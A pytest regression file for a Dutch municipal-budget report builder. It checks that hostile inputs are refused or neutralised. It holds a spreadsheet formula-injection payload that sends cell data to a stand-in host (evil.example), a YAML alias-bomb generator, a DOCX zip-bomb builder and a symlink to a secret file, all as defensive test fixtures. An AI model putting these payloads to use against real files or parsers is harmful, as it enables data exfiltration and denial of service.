"""Every case of issue 15 ("nothing lost, nothing run, nothing stale"), kept as a regression test.

Each test is one row of the issue's table (or one item under "What to build"): what an attacker or a
careless user does, and what the build must do instead. Inputs are synthetic, written for these tests.
"""
from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from begrotingslab.cli import main
from begrotingslab.corpus import load_corpus
from begrotingslab.errors import BegrotingslabError, InputError
from begrotingslab.build.pipeline import build

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "data" / "raw" / "diemen" / "programmabegroting-2024.txt"
PARAMETERS = 'municipality: str = "diemen"\nyear: int = 2024\ndata_dir: str = "../data"'
BUDGET = ("# Programmabegroting {year}\n\n## Programma 1: {programme}\n\n### Wat willen we bereiken?\n\n"
          "We willen in {year} de wijken veiliger maken. {extra}\n")


def write_budget(data: Path, municipality: str, year: int = 2024, programme: str = "Veiligheid",
                 extra: str = "", name: str | None = None) -> Path:
    folder = data / "raw" / municipality
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / (name or f"programmabegroting-{year}.md")
    path.write_text(BUDGET.format(year=year, programme=programme, extra=extra), encoding="utf-8")
    return path


def make_notebook(path: Path, *cells: str, parameters: str = PARAMETERS) -> Path:
    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell(parameters)
    params.metadata["tags"] = ["parameters"]
    nb.cells = [nbformat.v4.new_markdown_cell("# Test"), params, *(nbformat.v4.new_code_cell(c) for c in cells)]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


@pytest.fixture
def notebooks(tmp_path) -> Path:
    """One small notebook that reads its own edition (fast: no analyses)."""
    folder = tmp_path / "notebooks"
    make_notebook(folder / "01_zinnen.ipynb",
                  "from begrotingslab.corpus import load_corpus\n"
                  "c = load_corpus(data_dir, municipality=municipality, year=year)\n"
                  "print(f'{municipality} {year}: {len(c.sentences)} zinnen in {data_dir}')")
    return folder


def built_files(out: Path) -> set[str]:
    return {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}


# ------------------------------------------------------------------------------------------ high

@pytest.mark.slow
def test_a_build_never_deletes_files_it_did_not_write(tmp_path, notebooks, capsys):
    """Row 1: a full build deleted any */*/data folder under --out; now a foreign --out is refused, and with
    --allow-other-files the build works beside the files and never removes them."""
    data = tmp_path / "data"
    write_budget(data, "diemen")
    out = tmp_path / "O"
    thesis = out / "projects" / "thesis" / "data" / "r.csv"
    thesis.parent.mkdir(parents=True)
    thesis.write_text("x\n")
    code = main(["build", "--data", str(data), "--out", str(out), "--notebooks", str(notebooks), "--jobs", "1"])
    err = capsys.readouterr().err
    assert code == 2 and "projects/thesis/data/r.csv" in err and "--allow-other-files" in err
    assert thesis.read_text() == "x\n" and not (out / "diemen").exists()
    summary = build(data, out, notebooks_dir=notebooks, jobs=1, allow_other_files=True)
    assert summary.ok and (out / "diemen" / "2024" / "01_zinnen.html").exists()
    assert thesis.read_text() == "x\n"
    # a document removed: its report goes (the manifest lists it), the foreign file stays
    write_budget(data, "weesp")
    build(data, out, notebooks_dir=notebooks, jobs=1, allow_other_files=True)
    shutil.rmtree(data / "raw" / "weesp")
    build(data, out, notebooks_dir=notebooks, jobs=1, allow_other_files=True)
    assert not (out / "weesp").exists() and (out / "diemen" / "2024" / "01_zinnen.html").exists()
    assert thesis.read_text() == "x\n"
    manifest = json.loads((out / ".begrotingslab-manifest.json").read_text())
    assert "diemen/2024/01_zinnen.html" in manifest["files"]
    assert not any(name.startswith("projects/") for name in manifest["files"])


@pytest.mark.slow
def test_an_empty_or_halved_corpus_removes_nothing_without_allow_shrink(tmp_path, notebooks, capsys):
    """Row 2: an empty or unmounted data/raw removed every report and exited 0."""
    data = tmp_path / "data"
    for name in ("diemen", "weesp", "muiden"):
        write_budget(data, name)
    out = tmp_path / "reports"
    assert build(data, out, notebooks_dir=notebooks, jobs=1).ok
    before = built_files(out)
    empty = tmp_path / "E"
    (empty / "raw").mkdir(parents=True)
    code = main(["build", "--data", str(empty), "--out", str(out), "--notebooks", str(notebooks)])
    err = capsys.readouterr().err
    assert code == 2 and "no documents" in err and "--allow-shrink" in err
    assert built_files(out) == before
    shutil.rmtree(data / "raw" / "weesp")
    shutil.rmtree(data / "raw" / "muiden")  # 3 -> 1: more than half gone
    with pytest.raises(BegrotingslabError, match="allow-shrink"):
        build(data, out, notebooks_dir=notebooks, jobs=1)
    assert built_files(out) == before
    summary = build(data, out, notebooks_dir=notebooks, jobs=1, allow_shrink=True)
    assert summary.ok and not (out / "weesp").exists() and (out / "diemen" / "2024" / "01_zinnen.html").exists()


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'


def test_spreadsheet_exports_never_hold_formulas(tmp_path, capsys):
    """Row 3: CSV exports and the ambitions CLI kept cells starting with = + - @; the XLSX stored live formulas."""
    import openpyxl

    from begrotingslab.build.exports import write_exports

    data = tmp_path / "data"
    path = write_budget(data, "diemen", extra=f"\n\n{FORMULA}\n\n@SUM(1+1) willen we in 2024 meer doen.\n\n"
                                               "+31 willen we in 2024 bellen.\n")
    out = tmp_path / "reports"
    assert write_exports(load_corpus(data), out)[0][1] is None
    folder = out / "diemen" / "2024" / "data"
    sentences = pd.read_csv(folder / "sentences.csv")
    texts = sentences["text"].tolist()
    assert f"'{FORMULA}" in texts and not any(str(t).startswith(("=", "+", "-", "@")) for t in texts)
    for csv in folder.glob("*.csv"):
        for cell in pd.read_csv(csv, dtype=str).fillna("").to_numpy().ravel():
            assert not cell.startswith(("=", "+", "@")), (csv.name, cell)
    workbook = folder / "diemen-2024.xlsx"
    with zipfile.ZipFile(workbook) as archive:
        assert not any("<f>" in archive.read(n).decode("utf-8", "ignore") for n in archive.namelist()
                       if n.startswith("xl/worksheets/"))
    sheet = openpyxl.load_workbook(workbook)["sentences"]
    assert FORMULA in [c.value for row in sheet.iter_rows() for c in row]  # the exact text, as text
    assert pd.read_parquet(folder / "sentences.parquet")["text"].str.startswith("=").any()  # code gets it as is
    assert main(["ambitions", str(path)]) == 0
    for line in capsys.readouterr().out.splitlines()[1:]:
        for cell in next(iter(pd.read_csv(io.StringIO(line), header=None, dtype=str).fillna("").to_numpy())):
            assert not cell.startswith(("=", "+", "@", "-")), cell


def laughs(levels: int, width: int = 9) -> str:
    lines = ["---", "a0: &a0 [lol]"]
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
    lines += [f"gemeente: *a{levels - 1}", "---", "# Programmabegroting 2024", "", "We willen veel."]
    return "\n".join(lines) + "\n"


def test_front_matter_with_yaml_aliases_is_refused_before_it_expands(tmp_path):
    """Row 4: a 600-byte file with nested anchors in front matter grew to 11 GB and killed the build."""
    raw = tmp_path / "data" / "raw" / "diemen"
    raw.mkdir(parents=True)
    (raw / "bom-2024.md").write_text(laughs(10), encoding="utf-8")  # 9**9 strings if expanded
    (raw / "klein-2024.md").write_text(laughs(3).replace("2024", "2025"), encoding="utf-8")  # small, still refused
    write_budget(tmp_path / "data", "diemen", year=2023)
    corpus = load_corpus(tmp_path / "data")
    assert len(corpus.documents) == 1  # the good budget is read
    problems = {Path(e.path).name: e.problem for e in corpus.errors}
    assert set(problems) == {"bom-2024.md", "klein-2024.md"}
    assert all("alias" in p and "line 2" in p for p in problems.values())


def test_sentence_splitter_reads_each_word_once():
    """Row 5: the splitter searched the whole text before every candidate boundary (quadratic: 400 KB took
    131 s, 10 MB never finished). Now only the word before a boundary is read; bench_parse measures 10 MB."""
    from begrotingslab import text as text_module

    class Counting(str):
        read = 0

        def __getitem__(self, key):
            piece = str.__getitem__(self, key)
            Counting.read += len(piece)
            return piece

    paragraph = "We willen in 2024 meer doen. " * 2000
    clean = Counting(paragraph.strip())
    for match in text_module.BOUNDARY.finditer(clean):
        text_module._is_boundary(clean, match.end(), match.group(1))
    assert Counting.read < 3 * len(clean)  # linear: a few characters per boundary, not the text before it
    sentences = text_module.split_sentences(paragraph * 7)
    assert len(sentences) == 14000 and {s.text for s in sentences} == {"We willen in 2024 meer doen."}


def test_emphasis_markers_match_the_rule_without_backtracking():
    """Row 5, its emphasis part: unclosed markers made the regex scan to the end from each one. The scanner
    finds the same spans as the rule (EMPHASIS) on random paragraphs full of markers."""
    import random

    from begrotingslab.text import EMPHASIS, strip_emphasis

    def by_regex(text):
        out, spans, pos, length = [], [], 0, 0
        for m in EMPHASIS.finditer(text):
            out.append(text[pos:m.start()])
            length += m.start() - pos
            inner, inner_spans = by_regex(m.group("a") or m.group("b") or m.group("c"))
            spans.append((length, length + len(inner)))
            spans += [(length + s, length + e) for s, e in inner_spans]
            out.append(inner)
            length += len(inner)
            pos = m.end()
        out.append(text[pos:])
        return "".join(out), spans

    pieces = ["a", "B", "é", "1", ".", " ", "*", "*", "_", "_", "**", "__", ":", "'", "\t", "x"]
    rng = random.Random(15)
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 20)))
        assert strip_emphasis(text) == by_regex(text), text
    clean, spans = strip_emphasis("**a " * 50000 + "*_" * 3000 + "x" + "_*" * 3000)
    assert clean.startswith("**a **a") and len(spans) == 3000  # deep nesting: no recursion limit


# ------------------------------------------------------------------------------------------ medium

def test_reuse_covers_the_corpus_wide_topics_of_02_themas(tmp_path):
    """Row 6: 02_themas was reused after another municipality's document changed, although its topics are
    fitted over the whole corpus. The topics are now fitted once per build and their key is a parameter."""
    from begrotingslab import buildcache
    from begrotingslab.build.plan import plan
    from begrotingslab.themes import load_taxonomy

    data = tmp_path / "data"
    write_budget(data, "diemen")
    other = write_budget(data, "weesp")
    corpus = load_corpus(data)
    first = buildcache.store_topics(corpus, data)
    pd.testing.assert_frame_equal(buildcache.load_topics(data, first),
                                  buildcache.fit_topics(corpus, load_taxonomy()), check_dtype=False)
    notebook = ROOT / "notebooks" / "02_themas.ipynb"
    jobs = plan(corpus, [notebook], tmp_path / "out", data, topics=first)
    assert {j.parameters["topics"] for j in jobs} == {first}
    other.write_text(other.read_text(encoding="utf-8") + "\nWe bouwen een zwembad.\n", encoding="utf-8")
    changed = load_corpus(data)
    second = buildcache.store_topics(changed, data)
    assert second != first
    again = plan(changed, [notebook], tmp_path / "out", data, topics=second)
    diemen = [(a.fingerprint, b.fingerprint) for a, b in zip(jobs, again) if a.municipality == "diemen"]
    assert diemen and all(a != b for a, b in diemen)  # diemen's 02 is rebuilt when weesp changes


@pytest.mark.slow
def test_dollar_signs_urls_and_machine_paths_in_real_reports(tmp_path):
    """Rows 7, 14 and 17: '$...$' in a programme crashed 02 and 03 in mathtext (with an empty error line); a
    bare URL became a live link; paths of the build machine showed in reports, documents.csv, index.json and
    the notebooks' parameters."""
    data = tmp_path / "data"
    write_budget(data, "diemen", programme=r"Bestuur $\foo{x}$",
                 extra="Het beleid staat in 'https://evil.example/nota' en in de Woonvisie 2024.")
    out = tmp_path / "reports"
    summary = build(data, out, notebooks=["01_overzicht", "02_themas", "03_ambities"], jobs=2)
    assert summary.failed == [] and len(summary.built) == 3, summary
    overview = (out / "diemen" / "2024" / "01_overzicht.html").read_text(encoding="utf-8")
    assert r"Bestuur $\foo{x}$" in overview
    assert "raw/diemen/programmabegroting-2024.md" in overview
    published = [p for p in out.rglob("*") if p.is_file() and p.suffix in (".html", ".ipynb", ".json", ".csv")]
    machine = {str(tmp_path), str(tmp_path.resolve()), str(ROOT), str(Path.home()), sys.prefix}
    for path in published:
        content = path.read_text(encoding="utf-8", errors="ignore")
        assert not [m for m in machine if m in content], path
        assert 'href="https://evil.example' not in content, path
    documents = pd.read_csv(out / "diemen" / "2024" / "data" / "documents.csv")
    assert documents["source"].tolist() == ["raw/diemen/programmabegroting-2024.md"]


def test_an_error_line_is_never_empty():
    """Row 7, its message: matplotlib's errors start with a blank line, which left 'ValueError: '."""
    from begrotingslab.build.run import first_line

    assert first_line("\nBestuur $\\foo{x}$\n^\nParseFatalException: Unknown symbol") == "Bestuur $\\foo{x}$"
    assert first_line("") == "(no message)"


@pytest.mark.slow
def test_a_relative_notebooks_folder_works(tmp_path, notebooks, monkeypatch):
    """Row 8: a relative --notebooks failed every report ('Kernel died'): kernels start elsewhere."""
    data = tmp_path / "data"
    write_budget(data, "diemen")
    monkeypatch.chdir(tmp_path)
    assert main(["build", "--data", "data", "--out", "reports", "--notebooks", "notebooks", "--jobs", "1"]) == 0
    assert "zinnen" in (tmp_path / "reports" / "diemen" / "2024" / "01_zinnen.html").read_text(encoding="utf-8")


@pytest.mark.slow
def test_relative_folders_hold_while_a_report_runs_in_the_build_process(tmp_path, monkeypatch):
    """With one lane a report runs in the build's own process, and papermill moves that process into the
    notebooks' folder while the exports are written beside it: relative --out and --data then pointed there."""
    import os
    import time

    from begrotingslab.build import pipeline

    data = tmp_path / "data"
    write_budget(data, "diemen")
    done = tmp_path / "exports-written"
    # the report holds its kernel (and so the build process in the notebooks' folder) until the exports are written
    make_notebook(tmp_path / "notebooks" / "01_wacht.ipynb",
                  "import pathlib, time\n"
                  f"for _ in range(1200):\n    if pathlib.Path({str(done)!r}).exists(): break\n    time.sleep(0.1)")
    monkeypatch.chdir(tmp_path)
    real, started_in = pipeline.write_exports, os.getcwd()

    def exports_while_a_report_runs(*args, **kwargs):
        for _ in range(1200):  # until the report has moved the process
            if os.getcwd() != started_in:
                break
            time.sleep(0.1)
        try:
            return real(*args, **kwargs)
        finally:
            done.touch()

    monkeypatch.setattr(pipeline, "write_exports", exports_while_a_report_runs)
    assert main(["build", "--data", "data", "--out", "reports", "--notebooks", "notebooks", "--jobs", "1"]) == 0
    assert (tmp_path / "reports" / "diemen" / "2024" / "data" / "sentences.csv").is_file()
    assert not (tmp_path / "notebooks" / "reports").exists() and not (tmp_path / "notebooks" / "data").exists()


def test_unwritable_folders_are_one_line_before_any_notebook_runs(tmp_path, notebooks, monkeypatch, capsys):
    """Row 9: a read-only --out or data/ gave raw tracebacks, the --out one only after every notebook ran."""
    import tempfile

    from begrotingslab.build import pipeline

    data = tmp_path / "data"
    write_budget(data, "diemen")
    real = tempfile.mkstemp
    for target in (tmp_path / "reports", data / "processed"):
        def refuse(*args, dir=None, **kwargs):
            if dir is not None and Path(dir) == target:
                raise PermissionError(13, "Permission denied")
            return real(*args, dir=dir, **kwargs)

        monkeypatch.setattr(pipeline.tempfile, "mkstemp", refuse)
        monkeypatch.setattr(pipeline, "execute", lambda *a, **k: pytest.fail("notebooks ran"))
        code = main(["build", "--data", str(data), "--out", str(tmp_path / "reports"), "--notebooks", str(notebooks)])
        err = capsys.readouterr().err
        assert code == 2 and err.count("\n") == 1 and "Permission denied" in err and str(target) in err
        assert "Traceback" not in err
    monkeypatch.setattr(pipeline.tempfile, "mkstemp", real)
    out_file = tmp_path / "a-file"
    out_file.write_text("")
    code = main(["build", "--data", str(data), "--out", str(out_file / "reports"), "--notebooks", str(notebooks)])
    assert code == 2 and "Traceback" not in capsys.readouterr().err


def test_one_stray_byte_does_not_turn_utf8_into_cp1252():
    """Row 10: one invalid byte in a UTF-8 file decoded the whole file as cp1252 ('geÃ«valueerd')."""
    from begrotingslab.load.text import decode_text

    text = decode_text(Path("x.txt"), "Het beleid is geëvalueerd in 2024.\n".encode("utf-8") + b"Kapot \x81 teken.\n")
    assert "geëvalueerd" in text and "Kapot \ufffd teken." in text
    assert decode_text(Path("x.txt"), "Het beleid is geëvalueerd.".encode("cp1252")) == "Het beleid is geëvalueerd."


def docx_bytes(paragraphs: int = 3, padding: int = 0) -> bytes:
    """A minimal Word document (synthetic), optionally with many paragraphs or a large body when unpacked."""
    body = "".join(f"<w:p><w:r><w:t>We willen in 2024 zin {i} doen.</w:t></w:r></w:p>" for i in range(paragraphs))
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.'
                f'openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}<!--{" " * padding}--></w:body>'
                f'</w:document>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
                         'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
                         '"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        archive.writestr("_rels/.rels",
                         '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.'
                         'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
                         'formats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"'
                         '/></Relationships>')
        archive.writestr("word/document.xml", document)
    return buffer.getvalue()


def test_docx_bombs_are_refused_before_unpacking(tmp_path, monkeypatch):
    """Row 11: a 1 MB DOCX zip bomb took 2.1 GB; 3M small paragraphs ran at 6 GB for minutes."""
    import docx

    from begrotingslab.load import read_blocks

    good = tmp_path / "goed.docx"
    good.write_bytes(docx_bytes())
    assert [b.text for b in read_blocks(good)[1]][0] == "We willen in 2024 zin 0 doen."
    monkeypatch.setattr(docx, "Document", lambda *a, **k: pytest.fail("unpacked into a tree"))
    monkeypatch.setenv("BEGROTINGSLAB_MAX_FILE_MB", "1")
    bomb = tmp_path / "bom.docx"
    bomb.write_bytes(docx_bytes(padding=5_000_000))
    assert bomb.stat().st_size < 100_000
    with pytest.raises(InputError, match="unpacked is 4.8 MB, over the limit of 1 MB.*--max-file-mb"):
        read_blocks(bomb)
    monkeypatch.setenv("BEGROTINGSLAB_MAX_PARAGRAPHS", "1000")
    many = tmp_path / "veel.docx"
    many.write_bytes(docx_bytes(paragraphs=2000))
    with pytest.raises(InputError, match="more than 1000 paragraphs.*--max-paragraphs"):
        read_blocks(many)


# ------------------------------------------------------------------------------------------ low

@pytest.mark.slow
def test_a_failed_report_keeps_the_previous_good_one(tmp_path, capsys):
    """Row 12: a failed report (say --timeout 1) overwrote the previous good one."""
    data = tmp_path / "data"
    write_budget(data, "diemen")
    notebooks = tmp_path / "notebooks"
    make_notebook(notebooks / "01_wisselend.ipynb",
                  "import os\nif os.path.exists(os.path.join(data_dir, 'kapot')):\n"
                  "    raise RuntimeError('de analyse struikelt')\nprint('goede versie')")
    out = tmp_path / "reports"
    assert build(data, out, notebooks_dir=notebooks, jobs=1).ok
    page = out / "diemen" / "2024" / "01_wisselend.html"
    good = page.read_bytes()
    (data / "kapot").write_text("")
    make_notebook(notebooks / "01_wisselend.ipynb",  # a changed notebook, so the report is rebuilt
                  "import os\nif os.path.exists(os.path.join(data_dir, 'kapot')):\n"
                  "    raise RuntimeError('de analyse struikelt')\nprint('goede versie 2')")
    summary = build(data, out, notebooks_dir=notebooks, jobs=1)
    assert summary.failed == ["diemen/2024/01_wisselend"] and summary.stale == summary.failed
    assert summary.exit_code == 1 and page.read_bytes() == good
    attempt = out / "diemen" / "2024" / "01_wisselend.mislukt.html"
    assert "de analyse struikelt" in attempt.read_text(encoding="utf-8")
    (entry,) = json.loads((out / "index.json").read_text())["reports"]
    assert entry["status"] == "stale" and "de analyse struikelt" in entry["error"]
    assert entry["failed_href"] == "diemen/2024/01_wisselend.mislukt.html"
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "verouderd" in index and "mislukte poging" in index
    (data / "kapot").unlink()
    assert build(data, out, notebooks_dir=notebooks, jobs=1).ok
    assert "goede versie 2" in page.read_text(encoding="utf-8") and not attempt.exists()


@pytest.mark.parametrize("option, value", [("--timeout", "0"), ("--timeout", "-5"), ("--jobs", "0"),
                                           ("--jobs", "-1")])
def test_timeouts_and_jobs_below_one_are_refused(tmp_path, option, value, capsys):
    """Row 12, its options: --timeout 0/negative and --jobs 0/negative were accepted."""
    with pytest.raises(SystemExit) as exit_:
        main(["build", "--data", str(tmp_path), option, value])
    assert exit_.value.code == 2 and "1 or more" in capsys.readouterr().err
    with pytest.raises(BegrotingslabError, match="1 or more"):
        build(tmp_path, tmp_path / "r", **{option[2:]: int(value)})


def test_links_under_the_data_folder_are_not_followed(tmp_path):
    """Row 13: a symlink under data/raw published any readable file in reports and exports."""
    secret = tmp_path / "geheim" / "wachtwoorden-2024.txt"
    secret.parent.mkdir()
    secret.write_text("Programmabegroting 2024\n\nHet wachtwoord is hunter2.\n", encoding="utf-8")
    data = tmp_path / "data"
    write_budget(data, "diemen")
    (data / "raw" / "diemen" / "link-2024.txt").symlink_to(secret)
    (data / "raw" / "weesp").symlink_to(secret.parent, target_is_directory=True)
    corpus = load_corpus(data)
    assert not corpus.sentences["text"].str.contains("hunter2").any()
    assert {e.path: "link" in e.problem for e in corpus.errors} == {"raw/diemen/link-2024.txt": True,
                                                                    "raw/weesp": True}


def test_names_in_other_scripts_and_odd_front_matter(tmp_path):
    """Row 15: folder names in other scripts became 'onbekend' and collided; 'jaar: 0000' was ignored
    silently; a mapping as 'gemeente:' was accepted."""
    from begrotingslab.load import read_blocks

    data = tmp_path / "data"
    write_budget(data, "日本")
    write_budget(data, "中国")
    corpus = load_corpus(data)
    assert corpus.errors == [] and corpus.documents["municipality"].nunique() == 2
    assert "onbekend" not in set(corpus.documents["municipality"])
    zero = tmp_path / "nul.md"
    zero.write_text("---\njaar: 0000\n---\n# Programmabegroting 2024\n\nTekst.\n", encoding="utf-8")
    with pytest.raises(InputError, match="year '0' is not a year"):
        from begrotingslab.structure import parse_document
        parse_document(zero)
    mapping = tmp_path / "kaart.md"
    mapping.write_text("---\ngemeente:\n  naam: Diemen\n---\n# Programmabegroting 2024\n\nTekst.\n", encoding="utf-8")
    with pytest.raises(InputError, match="'gemeente' must be a single value, not a mapping"):
        read_blocks(mapping)


def test_utf16_without_bom_deep_html_devices_and_fifos(tmp_path):
    """Row 16: UTF-16 LE without BOM was 'binary'; a 100k-deep HTML page was 'only site chrome';
    parse /dev/zero grew without bound and a fifo hung."""
    from begrotingslab.load import read_blocks

    utf16 = tmp_path / "begroting-2024.txt"
    utf16.write_bytes("Programmabegroting 2024\n\nWe willen geëvalueerd beleid.\n".encode("utf-16-le"))
    assert "We willen geëvalueerd beleid." in [b.text for b in read_blocks(utf16)[1]]
    deep = tmp_path / "diep.html"
    deep.write_text("<html><body>" + "<div>" * 100_000 + "<p>Tekst.</p>" + "</div>" * 100_000 + "</body></html>")
    with pytest.raises(InputError, match="nests deeper than 200 levels"):
        read_blocks(deep)
    command = [sys.executable, "-m", "begrotingslab.cli", "parse"]
    zero = subprocess.run([*command, "/dev/zero"], capture_output=True, text=True, timeout=120)
    assert zero.returncode == 2 and "not a regular file" in zero.stderr
    fifo = tmp_path / "pijp.txt"
    os.mkfifo(fifo)
    hung = subprocess.run([*command, str(fifo)], capture_output=True, text=True, timeout=120)
    assert hung.returncode == 2 and "not a regular file" in hung.stderr


def test_exports_follow_the_same_filter_as_the_reports(tmp_path):
    """Row 18: exports were skipped silently for --municipality "Ouder Amstel" (slug vs lower())."""
    from begrotingslab.build.exports import write_exports

    data = tmp_path / "data"
    write_budget(data, "ouder-amstel")
    written = write_exports(load_corpus(data), tmp_path / "reports", ["Ouder Amstel"])
    assert [(f.parent.parent.name, error) for f, error in written] == [("ouder-amstel", None)]


@pytest.mark.slow
def test_a_build_for_a_municipality_spelled_as_people_write_it_has_reports_and_exports(tmp_path, notebooks):
    """Row 18 through the command line: --municipality "Ouder Amstel" builds its reports and writes its exports."""
    data = tmp_path / "data"
    write_budget(data, "ouder-amstel")
    write_budget(data, "diemen")
    out = tmp_path / "reports"
    code = main(["build", "--data", str(data), "--out", str(out), "--notebooks", str(notebooks), "--jobs", "1",
                 "--municipality", "Ouder Amstel"])
    assert code == 0
    assert (out / "ouder-amstel" / "2024" / "01_zinnen.html").exists()
    assert (out / "ouder-amstel" / "2024" / "data" / "sentences.csv").exists()
    assert (out / "ouder-amstel" / "2024" / "data" / "ouder-amstel-2024.xlsx").exists()
    assert not (out / "diemen").exists()


# ------------------------------------------------------------------------------------------ what to build

def test_limits_are_visible_and_a_document_over_one_is_reported_like_an_unreadable_one(tmp_path, capsys):
    """Inputs have limits a user can see and change; the rest of the corpus is still read."""
    assert main(["limits"]) == 0
    shown = capsys.readouterr().out
    for name in ("max_file_mb", "max_depth", "max_paragraphs", "BEGROTINGSLAB_MAX_FILE_MB", "--max-paragraphs"):
        assert name in shown
    data = tmp_path / "data"
    small = write_budget(data, "diemen")
    big = write_budget(data, "weesp", extra="We willen veel. " * 3000)
    assert main(["parse", str(big), "--max-file-mb", "0.01"]) == 2
    err = capsys.readouterr().err
    assert "over the limit of 0.01 MB" in err and "--max-file-mb" in err
    assert main(["parse", str(small), "--max-file-mb", "0.01"]) == 0  # the option holds for that command only
    capsys.readouterr()
    assert os.environ.get("BEGROTINGSLAB_MAX_FILE_MB") is None
    os.environ["BEGROTINGSLAB_MAX_FILE_MB"] = "0.01"
    try:
        corpus = load_corpus(data)
    finally:
        del os.environ["BEGROTINGSLAB_MAX_FILE_MB"]
    assert corpus.documents["municipality"].tolist() == ["diemen"]
    assert [e.path for e in corpus.errors] == ["raw/weesp/programmabegroting-2024.md"]
    assert len(load_corpus(data).documents) == 2  # the limit is part of the cache key


def test_an_online_edition_skips_an_empty_or_chrome_only_page_with_a_warning(tmp_path, capsys):
    """A folder of HTML pages with one empty or chrome-only page was rejected whole."""
    folder = tmp_path / "data" / "raw" / "diemen" / "begroting-2024"
    folder.mkdir(parents=True)
    (folder / "index.html").write_text(
        "<html><body><main><h1>Programmabegroting 2024</h1><h2>Programma 1: Bestuur</h2>"
        "<h3>Wat willen we bereiken?</h3><p>We willen in 2024 een betere dienstverlening.</p></main></body></html>")
    (folder / "leeg.html").write_text("")
    (folder / "menu.html").write_text("<html><body><nav><a href='index.html'>Home</a></nav></body></html>")
    corpus = load_corpus(tmp_path / "data")
    assert corpus.errors == [] and len(corpus.documents) == 1
    assert sorted(str(w) for w in corpus.warnings) == [
        "raw/diemen/begroting-2024/leeg.html: the page is empty; skipped",
        "raw/diemen/begroting-2024/menu.html: the page holds no budget text, only site chrome; skipped"]
    assert sorted(map(str, load_corpus(tmp_path / "data").warnings)) == sorted(map(str, corpus.warnings))  # cached
    assert main(["parse", str(folder)]) == 0
    assert "begrotingslab: warning:" in capsys.readouterr().err


def test_the_taxonomy_is_compiled_once_per_process(tmp_path):
    """Per-report cost: the taxonomy (a second to compile) is compiled once, then reused while unchanged."""
    from begrotingslab.themes import DEFAULT_TAXONOMY, load_taxonomy

    custom = tmp_path / "themas.yaml"
    custom.write_text(DEFAULT_TAXONOMY.read_text(encoding="utf-8"), encoding="utf-8")
    first = load_taxonomy(custom)
    assert load_taxonomy(custom) is first
    custom.write_text(custom.read_text(encoding="utf-8").replace("Dienstverlening", "Service", 1), encoding="utf-8")
    assert load_taxonomy(custom) is not first
    aliased = tmp_path / "alias.yaml"
    aliased.write_text("themes: &t {a: {label: A, terms: [x]}}\nother: *t\n", encoding="utf-8")
    with pytest.raises(InputError, match="anchor or alias"):
        load_taxonomy(aliased)


@pytest.mark.slow
def test_reuse_is_keyed_on_every_input_a_report_reads(tmp_path, monkeypatch):
    """Each input changed in turn: a report is rebuilt exactly when something it reads changed (its documents,
    the corpus selections it loaded, its notebook, the library, its parameters), and reused otherwise."""
    from begrotingslab.build import plan

    folder = tmp_path / "notebooks"
    reads = {"01_editie": "load_corpus(data_dir, municipality=municipality, year=year)",
             "02_gemeente": "load_corpus(data_dir, municipality=municipality)",
             "03_alles": "load_corpus(data_dir).select(municipality, year)"}
    for name, call in reads.items():
        make_notebook(folder / f"{name}.ipynb", f"from begrotingslab.corpus import load_corpus\nc = {call}\n"
                      "print(len(c.sentences))",
                      parameters=PARAMETERS + ('\ntaxonomy: str = ""' if name == "03_alles" else ""))
    data = tmp_path / "data"
    diemen = write_budget(data, "diemen")
    weesp = write_budget(data, "weesp")
    out = tmp_path / "reports"
    taxonomy = tmp_path / "themas.yaml"
    taxonomy.write_text((ROOT / "lib" / "begrotingslab" / "themes.yaml").read_text(encoding="utf-8"),
                        encoding="utf-8")

    def rebuilt() -> set[str]:
        summary = build(data, out, notebooks_dir=folder, jobs=1, taxonomy=taxonomy)
        assert summary.ok, summary.failed
        return set(summary.built)

    every = {f"{m}/2024/{n}" for m in ("diemen", "weesp") for n in reads}
    assert rebuilt() == every
    assert rebuilt() == set()  # nothing changed: everything reused
    diemen.write_text(diemen.read_text(encoding="utf-8") + "\nWe openen een bibliotheek.\n", encoding="utf-8")
    assert rebuilt() == {"diemen/2024/01_editie", "diemen/2024/02_gemeente", "diemen/2024/03_alles",
                         "weesp/2024/03_alles"}  # its own reports, and those that read the whole corpus
    write_budget(data, "diemen", year=2023)  # a new year of one municipality
    assert rebuilt() == {*(f"diemen/2023/{n}" for n in reads), "diemen/2024/02_gemeente", "diemen/2024/03_alles",
                         "weesp/2024/03_alles"}
    weesp.rename(weesp.with_name("begroting-weesp-2024.md"))  # same text, another name (reports show it)
    assert rebuilt() == {"weesp/2024/01_editie", "weesp/2024/02_gemeente", "weesp/2024/03_alles",
                         "diemen/2023/03_alles", "diemen/2024/03_alles"}
    make_notebook(folder / "01_editie.ipynb", "print('een andere notebook')")
    assert rebuilt() == {"diemen/2023/01_editie", "diemen/2024/01_editie", "weesp/2024/01_editie"}
    taxonomy.write_text(taxonomy.read_text(encoding="utf-8") + "\n# een opmerking\n", encoding="utf-8")
    assert rebuilt() == {"diemen/2023/03_alles", "diemen/2024/03_alles", "weesp/2024/03_alles"}  # who takes it
